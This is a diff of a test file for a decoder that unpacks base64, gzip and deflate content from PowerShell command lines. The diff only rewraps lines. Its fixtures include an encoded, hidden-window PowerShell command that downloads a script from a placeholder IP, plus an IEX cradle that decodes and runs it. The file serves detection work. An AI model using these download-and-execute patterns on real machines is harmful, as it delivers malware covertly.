@@ -9,7 +9,9 @@ const script = 'Invoke-WebRequest -Uri http://203.0.113.9/a.ps1 -OutFile $env:TE
 
 describe('base64', () => {
   it('is read as PowerShell writes it, also in Japanese', () => {
-    expect(decodeIn(`powershell.exe -NoP -enc ${wide(script)} -w hidden`)).toEqual([{ encoded: wide(script), steps: ['base64', 'utf-16le'], text: script }])
+    expect(decodeIn(`powershell.exe -NoP -enc ${wide(script)} -w hidden`)).toEqual([{
+      encoded: wide(script), steps: ['base64', 'utf-16le'], text: script,
+    }])
     const japanese = '共有フォルダーの患者一覧をコピーします'
     expect(decodeIn(wide(japanese)).map(({ text }) => text)).toEqual([japanese])
     expect(decodeIn(narrow(japanese)).map(({ text }) => text)).toEqual([japanese])
@@ -17,8 +19,12 @@ describe('base64', () => {
 
   it('is unpacked, and read again where base64 stands inside', () => {
     const packed = gzipSync(script).toString('base64')
-    expect(decodeIn(`[IO.MemoryStream][Convert]::FromBase64String("${packed}")`)).toMatchObject([{ steps: ['base64', 'gzip', 'utf-8'], text: script }])
-    expect(decodeIn(deflateRawSync(script.repeat(2)).toString('base64'))).toMatchObject([{ steps: ['base64', 'deflate', 'utf-8'] }])
+    expect(decodeIn(`[IO.MemoryStream][Convert]::FromBase64String("${packed}")`)).toMatchObject([{
+      steps: ['base64', 'gzip', 'utf-8'], text: script,
+    }])
+    expect(decodeIn(deflateRawSync(script.repeat(2)).toString('base64'))).toMatchObject([{ steps: [
+      'base64', 'deflate', 'utf-8',
+    ] }])
     const twice = wide(`IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${packed}')))`)
     expect(decodeIn(twice).map(({ steps, text }) => [steps.join(' '), text.slice(0, 6)])).toEqual([
       ['base64 utf-16le', 'IEX (['], ['base64 utf-16le base64 gzip utf-8', 'Invoke'],
@@ -32,8 +38,10 @@ describe('base64', () => {
 
   it('is not seen in what only looks like it', () => {
     for (const text of [
-      'C:/Windows/System32/WindowsPowerShell/v1', 'MD5=0123456789ABCDEF0123456789ABCDEF', 'HKEY_LOCAL_MACHINE/SOFTWARE/Microsoft/Windows',
-      '1234567890123456789012345678901234567890', 'Microsoft.NET.Framework64.Configuration.Machine', 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
+      'C:/Windows/System32/WindowsPowerShell/v1', 'MD5=0123456789ABCDEF0123456789ABCDEF',
+      'HKEY_LOCAL_MACHINE/SOFTWARE/Microsoft/Windows',
+      '1234567890123456789012345678901234567890', 'Microsoft.NET.Framework64.Configuration.Machine',
+      'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
     ]) expect(decodeIn(text), text).toEqual([])
   })
 
